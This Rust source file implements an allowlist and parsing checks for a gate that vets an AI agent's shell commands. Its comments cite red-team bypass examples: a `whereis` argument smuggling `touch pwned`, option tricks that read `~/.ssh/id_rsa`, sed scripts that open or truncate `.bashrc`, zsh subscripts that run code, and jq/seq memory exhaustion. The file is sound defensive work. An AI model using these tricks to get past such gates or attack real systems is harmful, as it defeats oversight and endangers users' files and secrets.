//! The known-safe allowlist: programs the gate may allow on its own, each with every option it
//! accepts and the role of every value and operand.
//!
//! Decides, for one unwrapped shell part, whether an entry vouches for it and, if so, which of
//! its words are paths read, paths written, or harmless text. It never judges the paths
//! themselves (the gate does, with `paths.rs`) and never lowers anything by itself. An option
//! that is not declared, an abbreviated long name, a value in a role that runs code, or an
//! operand count the grammar does not accept means the entry does not vouch for the part
//! (fail closed): an allow is a proof, never a blocklist miss. Every entry carries `match` /
//! `not_match` examples that a unit test runs through the whole gate.
//!
//! Writing an entry: list the options from the program's own `--help`, leaving out any option
//! that runs a program (pagers, preprocessors, `--exec`, compress programs), reads a list of
//! file names (`--files0-from`), changes the system, or writes somewhere not named by a
//! `WRITE` value. Leaving a harmless option out only costs automation.

use rustc_hash::FxHashMap;
use std::sync::LazyLock;

use crate::decision::Tier;
use crate::gate::argspec::{Grammar, GrammarError, Operands, Parsed, Refusal, Role, Slot, Style};

/// A semantic check on a parse the grammar accepted (sed scripts, jq filters, `seq inf`).
/// `Err` says why the part is not known-safe.
pub type Check = fn(&Parsed, &Grammar, &[String]) -> Result<(), String>;

/// What an entry can vouch for only once the agent's machine shows something about some of
/// its path words ([`crate::gate::facts`]). The words are as written, resolved by the gate.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PathNeeds {
    /// The words alone are enough.
    Nothing,
    /// Each word must name a regular file, not a directory or link (`diff a b` compares two
    /// directories' files, hidden ones included). The text says why, for the refusal.
    RegularFiles(Vec<String>, &'static str),
    /// Each word is read as a whole tree (`grep -r`): it must hold only directories and
    /// regular files, every one of which is then judged as a read.
    PlainTrees(Vec<String>, &'static str),
}

/// Says which of a parsed part's path words need facts, and which.
pub type Needs = fn(&Parsed, &Grammar, &[String]) -> PathNeeds;

pub struct SafeEntry {
    pub id: &'static str,
    pub programs: &'static [&'static str],
    /// The least tier: `low` for reads, `medium` for commands that write by nature (`git
    /// commit`, `mkdir`). A `WRITE` value raises any entry to `medium`.
    pub tier: Tier,
    pub style: Style,
    /// `--help`-style option lines: `"-o, --output=WRITE"`, `"--color[=TEXT]"`, `"--arg TEXT TEXT"`.
    pub options: &'static [&'static str],
    /// The operand grammar: `"PATTERN READ..."`, `"READ... WRITE"`, `"READ? WRITE?"`, `""`.
    pub operands: &'static str,
    /// `(option, operands)`: given that option, these operands instead (`grep -e`, `cp -t`).
    pub alternatives: &'static [(&'static str, &'static str)],
    /// `head -20`: a dash and digits is a count.
    pub numeric_option: bool,
    /// The program prints only metadata (names, sizes, counts), never file contents: a glob
    /// that might match a credential file is still harmless.
    pub metadata_only: bool,
    /// Every option the real program has only shapes its output (`ls`, `df`): a glob that
    /// expands to an option is harmless. Not so for `wc` and `du`, whose `--files0-from=F`
    /// prints F's contents as file names.
    pub options_harmless: bool,
    pub check: Option<Check>,
    /// Path words the entry vouches for only with facts about the machine ([`PathNeeds`]).
    pub needs: Option<Needs>,
    /// The entry covers one narrow form of a program that is otherwise unlisted (`cargo
    /// --version`): any other use is reported as unlisted, not as a refused flag.
    pub narrow: bool,
    /// The program is not getopt: clustered options take their values from the following
    /// words (`tree -Po X F`), see [`Grammar::cluster_values_follow`].
    pub cluster_values_follow: bool,
    /// `cp`/`mv`: a destination that is a directory receives `DEST/basename(SOURCE)`, which is
    /// judged as a write too (`cp templates/CLAUDE.md .` writes `./CLAUDE.md`).
    pub copies_into_directory: bool,
    /// git runs the repository's hooks (`pre-commit`, `post-checkout`,
    /// `reference-transaction`…), which the gate cannot see and which commonly run files the
    /// agent can edit (husky's `npm test`, lint-staged's config, the tests themselves).
    pub runs_repository_hooks: bool,
    /// `TEXT` operands may be values only known at run time, when they are one quoted word
    /// made of non-secret variables (`"$SHELL"`) and command substitutions judged on their own
    /// (`"$(git rev-parse HEAD)"`): whatever the value, the program only prints it.
    pub run_time_text: bool,
    /// How macOS's BSD implementation of the program reads its options, when it reads any
    /// word differently from the GNU one: `Posix` for plain `getopt` (options end at the first
    /// operand), `Gnu` for FreeBSD's permuting `getopt_long`. `None`: one implementation
    /// everywhere (git, ripgrep, jq), or the same reading.
    pub bsd_style: Option<Style>,
    /// The BSD reading's option lines, each taking over the names it declares from `options`
    /// (`"-p"` for GNU fmt's `-p, --prefix=TEXT`, a flag on macOS); `"!-l"` takes a name away,
    /// so the BSD reading refuses it. An option only GNU has needs no line: BSD `getopt`
    /// rejects it, and the program prints its usage and exits before it does anything.
    pub bsd: &'static [&'static str],
    pub matches: &'static [&'static str],
    pub not_matches: &'static [&'static str],
    /// Command lines GNU tools run safely but macOS's BSD tools read differently: allowed only
    /// with `userland = "gnu"` (a unit test checks both ways).
    pub gnu_only_matches: &'static [&'static str],
}

// The setting lives with the config (`workspace.userland`); the readings it selects are here.
pub use crate::config::Userland;

const fn entry(id: &'static str, programs: &'static [&'static str]) -> SafeEntry {
    SafeEntry {
        id,
        programs,
        tier: Tier::Low,
        style: Style::Gnu,
        options: &[],
        operands: "",
        alternatives: &[],
        numeric_option: false,
        metadata_only: false,
        options_harmless: false,
        check: None,
        needs: None,
        narrow: false,
        cluster_values_follow: false,
        copies_into_directory: false,
        runs_repository_hooks: false,
        run_time_text: false,
        bsd_style: None,
        bsd: &[],
        matches: &[],
        not_matches: &[],
        gnu_only_matches: &[],
    }
}

/// What the allowlist says about a part.
pub enum Judgement {
    /// The entry vouches for the part; each word's slot and the tier follow from the parse.
    Known {
        entry: &'static SafeEntry,
        grammar: &'static Grammar,
        parsed: Parsed,
        /// The other readings of the same words that must be safe too, each with its grammar:
        /// options ending at the first operand (see [`posix_reading`]) and macOS's BSD tool's
        /// reading. Every one is judged.
        alternates: Vec<(&'static Grammar, Parsed)>,
        tier: Tier,
    },
    /// An entry covers the program but not this use.
    Refused { entry: &'static SafeEntry, reason: String },
    /// No entry covers the program.
    Unlisted,
}

/// Looks a program's arguments up: the first entry that vouches under every reading the
/// userland allows, else the first refusal.
pub fn judge(program: &str, args: &[String], userland: Userland) -> Judgement {
    if program == "find" {
        return judge_find(args);
    }
    let Some(entries) = BY_PROGRAM.get(program) else { return Judgement::Unlisted };
    let mut refusal = None;
    let mut other_reading_refusal = None;
    for compiled in entries {
        let entry = compiled.entry;
        let grammar = &compiled.gnu;
        let parsed = match grammar.parse(args) {
            Ok(parsed) => parsed,
            Err(error) => {
                refusal.get_or_insert(Judgement::Refused { entry, reason: describe(&error) });
                continue;
            }
        };
        if let Some(check) = entry.check
            && let Err(reason) = check(&parsed, grammar, args)
        {
            refusal.get_or_insert(Judgement::Refused { entry, reason });
            continue;
        }
        match other_readings(compiled, &parsed, args, userland) {
            Ok(alternates) => {
                let writes = parsed.writes() || alternates.iter().any(|(_, alternate)| alternate.writes());
                let tier = if writes { entry.tier.max(Tier::Medium) } else { entry.tier };
                return Judgement::Known { entry, grammar, parsed, alternates, tier };
            }
            // The reading that refused is the story to tell: GNU's accepted these words.
            Err(reason) => {
                other_reading_refusal.get_or_insert(Judgement::Refused { entry, reason });
            }
        }
    }
    match other_reading_refusal.or(refusal) {
        Some(Judgement::Refused { entry, .. }) if entry.narrow => Judgement::Unlisted,
        other => other.unwrap_or(Judgement::Unlisted),
    }
}

/// The readings besides GNU's own that the userland allows, each accepted by its grammar and
/// the entry's check: GNU with `POSIXLY_CORRECT`, and (for `Userland::Any`) the BSD tool's,
/// with its own `POSIXLY_CORRECT` reading when it permutes.
fn other_readings(
    compiled: &'static CompiledEntry,
    parsed: &Parsed,
    args: &[String],
    userland: Userland,
) -> Result<Vec<(&'static Grammar, Parsed)>, String> {
    let mut alternates = Vec::new();
    if let Some(alternate) = posix_reading(compiled.entry, &compiled.gnu, &compiled.gnu_posix, parsed, args)? {
        alternates.push((&compiled.gnu_posix, alternate));
    }
    if userland == Userland::Any
        && let Some((bsd, bsd_posix)) = &compiled.bsd
    {
        let program = compiled.entry.programs.first().copied().unwrap_or_default();
        let on_macos = |reason: String| format!("{reason} as macOS's BSD `{program}` reads it");
        let bsd_parsed = bsd.parse(args).map_err(|error| on_macos(describe(&error)))?;
        if let Some(check) = compiled.entry.check {
            check(&bsd_parsed, bsd, args).map_err(on_macos)?;
        }
        if let Some(alternate) = posix_reading(compiled.entry, bsd, bsd_posix, &bsd_parsed, args).map_err(on_macos)? {
            alternates.push((bsd_posix, alternate));
        }
        // Most lines read the same words the same way on both (`ls -la src`): judging them
        // twice would add nothing.
        if !same_roles(parsed, &bsd_parsed) {
            alternates.push((bsd, bsd_parsed));
        }
    }
    Ok(alternates)
}

/// Whether two readings give every word the same part: the same operands in the same roles,
/// and the same options at the same words with the same values in the same roles.
fn same_roles(one: &Parsed, other: &Parsed) -> bool {
    one.operands == other.operands
        && one.options.len() == other.options.len()
        && one
            .options
            .iter()
            .zip(&other.options)
            .all(|(a, b)| a.word == b.word && a.attached == b.attached && a.values == b.values)
}

/// GNU getopt stops at the first operand when `POSIXLY_CORRECT` is in the environment, which
/// the user's shell passes on and the gate cannot see: `head README.md -n ~/.ssh/id_rsa` then
/// reads the key as a file. When a permuting parse found options after an operand, the words
/// are parsed again with options ending at the first operand (`posix`, the same grammar in
/// `Style::Posix`); that reading must be accepted too, and is returned to be judged as well.
fn posix_reading(
    entry: &SafeEntry,
    grammar: &Grammar,
    posix: &Grammar,
    parsed: &Parsed,
    args: &[String],
) -> Result<Option<Parsed>, String> {
    let first_operand = parsed.operands.iter().map(|(word, _)| *word).min();
    let options_after_operand = grammar.style == Style::Gnu
        && first_operand.is_some_and(|first| {
            parsed.slots.iter().skip(first).any(|slot| !matches!(slot, Some(Slot::Operand { .. })))
        });
    if !options_after_operand {
        return Ok(None);
    }
    let alternate = posix.parse(args).map_err(|error| {
        format!("{} when `POSIXLY_CORRECT` ends its options at the first operand", describe(&error))
    })?;
    if let Some(check) = entry.check {
        check(&alternate, posix, args)
            .map_err(|reason| format!("{reason} when `POSIXLY_CORRECT` ends its options at the first operand"))?;
    }
    Ok(Some(alternate))
}

fn describe(refusal: &Refusal) -> String {
    format!("uses {refusal}")
}

/// One entry's grammars, compiled once: GNU's, GNU's with options ending at the first operand,
/// and the BSD tool's pair when it reads differently.
pub struct CompiledEntry {
    pub entry: &'static SafeEntry,
    pub gnu: Grammar,
    pub gnu_posix: Grammar,
    pub bsd: Option<(Grammar, Grammar)>,
}

/// Compiled grammars by program name, built once and checked by a unit test. FxHash: one
/// lookup per shell part, with keys fixed at build time.
static BY_PROGRAM: LazyLock<FxHashMap<&'static str, Vec<CompiledEntry>>> = LazyLock::new(|| {
    let mut map: FxHashMap<&'static str, Vec<CompiledEntry>> = FxHashMap::default();
    for entry in SAFE_COMMANDS {
        // A grammar that does not compile vouches for nothing; the unit test names the entry.
        let Ok(gnu) = compile(entry) else { continue };
        let Ok(bsd) = compile_bsd(entry, &gnu) else { continue };
        for program in entry.programs {
            let mut gnu_posix = gnu.clone();
            gnu_posix.style = Style::Posix;
            let bsd = bsd.clone().map(|bsd| {
                let mut bsd_posix = bsd.clone();
                bsd_posix.style = Style::Posix;
                (bsd, bsd_posix)
            });
            map.entry(program).or_default().push(CompiledEntry { entry, gnu: gnu.clone(), gnu_posix, bsd });
        }
    }
    map
});

/// Why an entry's grammar does not compile; the message names the entry.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum EntryError {
    #[error("entry `{id}`: {error}")]
    Grammar { id: &'static str, error: GrammarError },
    #[error("entry `{id}`: BSD overrides without a `bsd_style`")]
    BsdWithoutStyle { id: &'static str },
    #[error("entry `{id}`: alternative for undeclared option `{option}`")]
    UndeclaredAlternative { id: &'static str, option: &'static str },
}

/// Builds the BSD reading's grammar from the GNU one and the entry's overrides.
pub fn compile_bsd(entry: &SafeEntry, gnu: &Grammar) -> Result<Option<Grammar>, EntryError> {
    match entry.bsd_style {
        None if entry.bsd.is_empty() => Ok(None),
        None => Err(EntryError::BsdWithoutStyle { id: entry.id }),
        Some(style) => {
            gnu.with_overrides(style, entry.bsd).map(Some).map_err(|error| EntryError::Grammar { id: entry.id, error })
        }
    }
}

/// Builds an entry's grammar.
pub fn compile(entry: &SafeEntry) -> Result<Grammar, EntryError> {
    let mut grammar = Grammar::new(entry.style, entry.options, entry.operands)
        .map_err(|error| EntryError::Grammar { id: entry.id, error })?;
    grammar.numeric_option = entry.numeric_option;
    grammar.cluster_values_follow = entry.cluster_values_follow;
    for (option, operands) in entry.alternatives {
        if !grammar.options.iter().any(|declared| declared.is(option)) {
            return Err(EntryError::UndeclaredAlternative { id: entry.id, option });
        }
        let operands = Operands::parse(operands).map_err(|error| EntryError::Grammar { id: entry.id, error })?;
        grammar.alternatives.push(((*option).to_owned(), operands));
    }
    Ok(grammar)
}

/// The values of the options named `name` (long name or letter).
fn values<'a>(parsed: &'a Parsed, grammar: &'a Grammar, name: &'a str) -> impl Iterator<Item = &'a str> + 'a {
    parsed
        .options
        .iter()
        .filter(move |given| grammar.options[given.option].is(name))
        .flat_map(|given| given.values.iter().map(|(value, _)| value.as_str()))
}

fn operand_words<'a>(parsed: &'a Parsed, args: &'a [String]) -> impl Iterator<Item = &'a str> + 'a {
    parsed.operands.iter().map(|(word, _)| args[*word].as_str())
}

/// sed: scripts (from `-e`, `--expression` or the first operand) made only of print, delete,
/// quit, line-number, hold-space and substitute commands, without `e`, `w`, `r`, `R`, `W`, `F`
/// or a substitute's `e` / `w` flags. `-i`, `-f` and `--sandbox`-less execution are not declared.
fn sed_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    // By letter: macOS's BSD reading declares `-e` without GNU's long name.
    let mut scripts: Vec<&str> = values(parsed, grammar, "e").collect();
    for (word, role) in &parsed.operands {
        if *role == Role::Script {
            scripts.push(args[*word].as_str());
        }
    }
    match scripts.iter().find(|script| !sed_script_is_safe(script)) {
        Some(script) => Err(format!("uses the sed script `{script}`, which can execute, read or write files")),
        // sed joins its `-e` scripts with newlines and reads them as one.
        None if !sed_script_is_safe(&scripts.join("\n")) => {
            Err("uses sed scripts that, joined, leave the subset that only prints or substitutes".to_owned())
        }
        None => Ok(()),
    }
}

/// `which`, `type`, `whereis`: every operand is a plain program name. BSD `whereis` (macOS)
/// runs `man -S1:8:6 -w NAME` through `popen`, so `whereis 'x;touch pwned'` runs a shell
/// command there.
fn program_names_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let plain = |name: &str| {
        !name.starts_with('-')
            && !name.is_empty()
            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'+' | b'-'))
    };
    match operand_words(parsed, args).find(|name| !plain(name)) {
        Some(name) => {
            Err(format!("looks up `{name}`, which is not a plain program name (BSD `whereis` passes it to a shell)"))
        }
        None => Ok(()),
    }
}

fn sed_in_place_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    if !parsed.has(grammar, "i") {
        return Err("does not edit in place".to_owned());
    }
    if !parsed.operands.iter().any(|(_, role)| *role == Role::Write) {
        return sed_in_place_without_files(parsed, grammar, args);
    }
    // An empty suffix keeps no backup: GNU's `--in-place=`, BSD's `-i ''`.
    if let Some(suffix) = values(parsed, grammar, "i").find(|suffix| !suffix.is_empty()) {
        return Err(format!("keeps a backup with the suffix `{suffix}`, a file name the gate does not judge"));
    }
    sed_check(parsed, grammar, args)
}

/// A reading of `sed -i` with no file to edit: macOS's BSD sed reads `sed -i 's/a/b/' src/lib.rs`
/// as the suffix `s/a/b/` and the script `src/lib.rs`. Neither sed edits stdin in place: GNU
/// stops with `no input files` and BSD with `-i may not be used with stdin` (`mf_fgets` in
/// `usr.bin/sed/main.c`) before reading a line, so no line is processed, no backup is made and
/// the suffix names nothing. What has already happened is compiling the script, and compiling
/// opens (and truncates) the file of every `w` command and `w` flag, in both seds, and GNU
/// sed opens the file of every `R` command too (red-team: `sed -i -e 'R /net/HOST/x'` made it
/// open any path, a FIFO or a device). So a script with no `w`, `W` or `R` anywhere in it does
/// nothing at all in this reading. The letters are looked for in the words bash will pass, so a
/// script the gate holds with `~` (a tilde or `$HOME`, which the gate writes as `~`) is refused:
/// its real text is the user's home directory, whose letters the gate does not know (red-team:
/// for a home `/home/wendy`, `sed -i -e ~/../../.bashrc` compiles `/home/` `w endy/../../.bashrc`
/// and truncates `.bashrc`). The other reading of the same words (GNU's, with the file) is
/// judged on its own.
fn sed_in_place_without_files(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let mut scripts = values(parsed, grammar, "e")
        .chain(parsed.operands.iter().filter(|(_, role)| *role == Role::Script).map(|(word, _)| args[*word].as_str()));
    match scripts.find(|script| script.contains(['w', 'W', 'R', '~'])) {
        Some(script) => Err(format!(
            "compiles the sed script `{script}` with no file to edit, and a `w` or `R` in it (or in the home directory `~` stands for) may open a file"
        )),
        None => Ok(()),
    }
}

/// Whether a sed script stays inside the subset that only prints or substitutes: commands
/// read one after another as GNU sed reads them (an address or two, an optional `!`, then one
/// of `p d q = n N P D g G h H x l` or an `s` command with the flags `g i I p m M` and a count),
/// separated by `;` or newlines. A regex is read the way sed reads it: `\` escapes the next
/// character, and a bracket expression (where the delimiter is an ordinary member, as in
/// `s/[/]/;/e`) is read only when plain: an optional `^`, then letters, digits, blanks and `_ -
/// .` up to the closing `]`. Anything else (`e`, `w`, `r`, `y`, `{`, `#`, odd delimiters,
/// classes like `[[:alpha:]]`) is outside the subset.
pub fn sed_script_is_safe(script: &str) -> bool {
    let mut rest = script.as_bytes();
    loop {
        rest = skip_blank(rest, true);
        if rest.is_empty() {
            return true;
        }
        match sed_command(rest) {
            Some(after) => rest = after,
            None => return false,
        }
    }
}

/// Skips blanks (and `;` and newlines between commands when `separators`).
fn skip_blank(mut text: &[u8], separators: bool) -> &[u8] {
    while let Some((&first, after)) = text.split_first() {
        if first == b' ' || first == b'\t' || (separators && (first == b';' || first == b'\n')) {
            text = after;
        } else {
            break;
        }
    }
    text
}

/// Reads one command; returns what follows it, which must start with a separator or be empty.
fn sed_command(text: &[u8]) -> Option<&[u8]> {
    let mut rest = sed_address(text)?;
    if let Some(second) = rest.strip_prefix(b",") {
        rest = sed_address(second)?;
    }
    rest = skip_blank(rest, false);
    if let Some(after) = rest.strip_prefix(b"!") {
        rest = skip_blank(after, false);
    }
    let (&letter, after) = rest.split_first()?;
    let after = match letter {
        b'p' | b'd' | b'q' | b'=' | b'n' | b'N' | b'P' | b'D' | b'g' | b'G' | b'h' | b'H' | b'x' | b'l' => after,
        b's' => {
            let (&delimiter, body) = after.split_first()?;
            // Only delimiters that mean nothing else in a regex or a replacement.
            if !b"/|,:@%+_#".contains(&delimiter) {
                return None;
            }
            let body = sed_regex(body, delimiter)?;
            let mut flags = sed_replacement(body, delimiter)?;
            while let Some((&flag, after)) = flags.split_first() {
                if matches!(flag, b'g' | b'i' | b'I' | b'p' | b'm' | b'M') || flag.is_ascii_digit() {
                    flags = after;
                } else {
                    break;
                }
            }
            flags
        }
        _ => return None,
    };
    let after = skip_blank(after, false);
    match after.first() {
        None | Some(b';' | b'\n') => Some(after),
        Some(_) => None,
    }
}

/// One address: a line number, `$`, `first~step`, or `/regex/`; nothing is an address too.
fn sed_address(text: &[u8]) -> Option<&[u8]> {
    if let Some(regex) = text.strip_prefix(b"/") {
        return sed_regex(regex, b'/');
    }
    let digits = text.iter().take_while(|byte| byte.is_ascii_digit() || **byte == b'$' || **byte == b'~').count();
    Some(&text[digits..])
}

/// Reads a regex up to its closing delimiter; returns what follows the delimiter.
fn sed_regex(text: &[u8], delimiter: u8) -> Option<&[u8]> {
    sed_section(text, delimiter, true)
}

/// Reads a replacement (where `[` is text) up to its closing delimiter.
fn sed_replacement(text: &[u8], delimiter: u8) -> Option<&[u8]> {
    sed_section(text, delimiter, false)
}

/// One section of an `s` command or address, up to its unescaped closing delimiter; a bracket
/// expression counts as one piece in a regex (`brackets`).
fn sed_section(text: &[u8], delimiter: u8, brackets: bool) -> Option<&[u8]> {
    let mut index = 0;
    while let Some(&byte) = text.get(index) {
        match byte {
            b'\n' => return None,
            b'\\' => {
                // `\/` is a literal delimiter; an escaped newline continues the command.
                if *text.get(index + 1)? == b'\n' {
                    return None;
                }
                index += 2;
            }
            b'[' if brackets => index += plain_bracket(&text[index..])?,
            _ if byte == delimiter => return Some(&text[index + 1..]),
            _ => index += 1,
        }
    }
    None
}

/// The length of a plain bracket expression at the start of `text` (which starts with `[`).
fn plain_bracket(text: &[u8]) -> Option<usize> {
    let mut index = 1;
    if text.get(index) == Some(&b'^') {
        index += 1;
    }
    let first = index;
    while let Some(&byte) = text.get(index) {
        match byte {
            b']' if index > first => return Some(index + 1),
            _ if byte.is_ascii_alphanumeric() || matches!(byte, b' ' | b'_' | b'-' | b'.') => index += 1,
            _ => return None,
        }
    }
    None
}

/// awk: the program (the first operand) must be in the subset of [`crate::gate::awk`].
fn awk_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    for (word, role) in &parsed.operands {
        if *role == Role::Script && !crate::gate::awk::program_is_safe(&args[*word]) {
            return Err(format!(
                "uses the awk program `{}`, which is outside the subset that only prints its input",
                args[*word]
            ));
        }
    }
    Ok(())
}

/// jq: the filter must not read the environment (`env`, `$ENV`) or input file names.
fn jq_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let reads_environment = |filter: &str| {
        // jq's lexer allows blanks and comments between `$` and a name (`$ ENV`). A `#` may be a
        // comment or sit in a string, which only jq's own lexer can tell: refused outright.
        let compact: String = filter.split_whitespace().collect();
        filter.contains('#')
            || compact.contains("$ENV")
            || compact.contains("$__prog")
            || filter.contains("input_filename")
            // Modules are read from the search path (`~/.jq`, beside the binary): other files.
            || filter.contains("import")
            || filter.contains("include")
            // Generators and loops without a bound, and numbers big enough to make one
            // (`"x" | last(recurse(. + .))` doubles a string until memory runs out; round 44).
            || ["recurse(", "range(", "repeat", "while(", "until("].iter().any(|word| compact.contains(word))
            || has_big_number(filter)
            // A function defined in the filter may call itself: a generator without a bound.
            || filter.split(|c: char| !(c.is_alphanumeric() || c == '_')).any(|word| word == "def")
            || filter.match_indices("env").any(|(index, _)| {
                let before = filter[..index].chars().next_back();
                let after = filter[index + 3..].chars().next();
                !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
                    && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
            })
    };
    for (word, role) in &parsed.operands {
        if *role == Role::Script && reads_environment(&args[*word]) {
            return Err("uses a filter that reads the environment or can run without bound".to_owned());
        }
    }
    Ok(())
}

/// A number of more than six digits, or with an exponent (`1e12`), in a jq filter.
fn has_big_number(filter: &str) -> bool {
    let bytes = filter.as_bytes();
    filter.split(|c: char| !c.is_ascii_digit()).any(|digits| digits.len() > 6)
        || bytes.windows(3).any(|window| {
            window[0].is_ascii_digit()
                && matches!(window[1], b'e' | b'E')
                && (window[2].is_ascii_digit() || matches!(window[2], b'+' | b'-'))
        })
}

/// seq: `inf` and `nan` never end, and a bound of more than six digits or a format width of
/// more than three (`-f '%0999999g'`) writes gigabytes, which `| sort` then spills into `/tmp`
/// (red-team round 44).
fn seq_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    if operand_words(parsed, args).any(|word| {
        let lower = word.to_ascii_lowercase();
        lower.contains("inf") || lower.contains("nan") || word.len() > 6
    }) {
        return Err("uses an unbounded sequence".to_owned());
    }
    if let Some(format) = values(parsed, grammar, "f").find(|format| !format_widths_are_small(format)) {
        return Err(format!("uses the format `{format}`, whose width writes without bound"));
    }
    Ok(())
}

/// Whether every `%` directive of a printf-style format has a width and precision of at most
/// three digits: `%2000000000s` prints two gigabytes for each argument.
fn format_widths_are_small(format: &str) -> bool {
    let mut rest = format;
    while let Some(at) = rest.find('%') {
        let spec = &rest[at + 1..];
        let end = spec
            .find(|c: char| !matches!(c, '-' | '+' | ' ' | '#' | '0'..='9' | '.' | '\'' | '*'))
            .unwrap_or(spec.len());
        let longest_digits = spec[..end].split(|c: char| !c.is_ascii_digit()).map(str::len).max().unwrap_or(0);
        if longest_digits > 3 {
            return false;
        }
        rest = spec.get(end + 1..).unwrap_or("");
    }
    true
}

/// The operators `test` and `[` are vouched for with. `-v` and `-R` (a variable's subscript
/// is evaluated as arithmetic) are not among them.
const TEST_OPERATORS: [&str; 38] = [
    "-a", "-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-p", "-r", "-s", "-t", "-u", "-w", "-x", "-G", "-L", "-N",
    "-O", "-S", "-z", "-n", "-nt", "-ot", "-ef", "-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-o", "=", "==", "!=", "!",
    "-",
];

/// test / `[`: every word that looks like an operator is one of [`TEST_OPERATORS`]. `-t`
/// takes a descriptor number and the integer comparisons take integers: zsh evaluates those
/// operands as arithmetic, where a name is evaluated again and `x='a[$(cmd)]'; [ -t x ]`
/// runs `cmd` (red-team round 34). Any `[` inside an operand is refused too.
fn test_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let words: Vec<&str> = operand_words(parsed, args).collect();
    let inner = match words.first() {
        Some(&"[") => return Err("is a `[` used as an operand".to_owned()),
        _ => &words[..],
    };
    let integer = |word: Option<&&str>| {
        word.is_some_and(|word| {
            let digits = word.strip_prefix('-').unwrap_or(word);
            !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
        })
    };
    for (index, word) in inner.iter().enumerate() {
        if word.contains('[') {
            return Err("uses an array subscript, which evaluates code".to_owned());
        }
        if word.len() > 1 && word.starts_with('-') && !TEST_OPERATORS.contains(word) && !integer(Some(word)) {
            return Err(format!("uses `{word}`, which is not an operator it is vouched for with"));
        }
        match *word {
            "-t" if index + 1 < inner.len() && !integer(inner.get(index + 1)) => {
                return Err(
                    "gives `-t` something other than a descriptor number, which zsh evaluates as arithmetic".to_owned()
                );
            }
            "-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge"
                if !(index > 0 && integer(inner.get(index - 1)) && integer(inner.get(index + 1))) =>
            {
                return Err(format!(
                    "compares with `{word}` something other than integers, which zsh evaluates as arithmetic"
                ));
            }
            _ => {}
        }
    }
    Ok(())
}

/// Keys whose values are never secret: git configuration holds tokens (`url.*.insteadOf`,
/// `http.*.extraHeader`, credentials in remote URLs), so only these are read unattended.
const GIT_CONFIG_READABLE_KEYS: [&str; 9] = [
    "user.name",
    "user.email",
    "init.defaultbranch",
    "pull.rebase",
    "core.autocrlf",
    "core.filemode",
    "core.ignorecase",
    "core.bare",
    "push.default",
];

/// git config: reading one of [`GIT_CONFIG_READABLE_KEYS`] (`git config KEY`, `--get KEY`);
/// never a listing, a pattern, `edit` or `set`.
fn git_config_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    if ["get-all", "get-regexp", "list", "l"].iter().any(|name| parsed.has(grammar, name)) {
        return Err("lists configuration, which can hold tokens".to_owned());
    }
    let operands: Vec<&str> = operand_words(parsed, args).collect();
    match operands.as_slice() {
        [key] if GIT_CONFIG_READABLE_KEYS.contains(&key.to_ascii_lowercase().as_str()) => Ok(()),
        [key] => Err(format!("reads `{key}`, which is not on the list of keys that never hold secrets")),
        _ => Err("is not a read of one configuration key".to_owned()),
    }
}

/// git switch / checkout: only the forms that create a branch.
fn git_create_branch_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    if !(parsed.has(grammar, "c") || parsed.has(grammar, "create") || parsed.has(grammar, "b")) {
        return Err("does not create a branch (switching can discard work)".to_owned());
    }
    // A start point checks out another tree, whose files (`.claude/settings.json`, hooks
    // config) land in the workspace unseen; a new branch at HEAD changes no file.
    match operand_words(parsed, args).next() {
        Some(start) => Err(format!("starts the branch at `{start}`, checking out files the gate cannot see")),
        None => Ok(()),
    }
}

/// git fetch: from a configured remote named plainly (`origin`), never a URL, an ssh
/// `host:path` or a path, which would send the words to a host the agent chose; and no refspec,
/// which could move local branches.
fn git_fetch_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let plain_name = |word: &str| {
        word.bytes().next().is_some_and(|first| first.is_ascii_alphanumeric())
            && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
    };
    match operand_words(parsed, args).find(|word| !plain_name(word)) {
        Some(word) => Err(format!("fetches from `{word}`, which is not a plain remote name")),
        None => Ok(()),
    }
}

/// git restore: only unstaging.
fn git_restore_check(parsed: &Parsed, grammar: &Grammar, _args: &[String]) -> Result<(), String> {
    if parsed.has(grammar, "staged") { Ok(()) } else { Err("restores the working tree (discards changes)".to_owned()) }
}

/// `git remote get-url` and `git stash list|show` and friends: the named sub-subcommand.
fn first_operand_is(parsed: &Parsed, args: &[String], allowed: &[&str]) -> Result<(), String> {
    match operand_words(parsed, args).next() {
        Some(first) if allowed.contains(&first) => Ok(()),
        Some(first) => Err(format!("uses the `{first}` form")),
        None => Err("needs a subcommand".to_owned()),
    }
}

/// git stash, worktree and remote read their sub-subcommand only from the first word (`git
/// stash --all -- list` is `git stash push --all -- list`), so that is where it must be.
fn first_word_is(args: &[String], allowed: &[&str]) -> Result<(), String> {
    match args.first() {
        Some(first) if allowed.contains(&first.as_str()) => Ok(()),
        Some(first) => Err(format!("starts with `{first}`, not one of the read forms")),
        None => Err("needs a subcommand".to_owned()),
    }
}

fn git_stash_read_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    first_word_is(args, &["list", "show"])?;
    first_operand_is(parsed, args, &["list", "show"])
}

fn git_stash_push_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    match operand_words(parsed, args).next() {
        None | Some("push" | "save") => Ok(()),
        Some(first) => Err(format!("uses the `{first}` form")),
    }
}

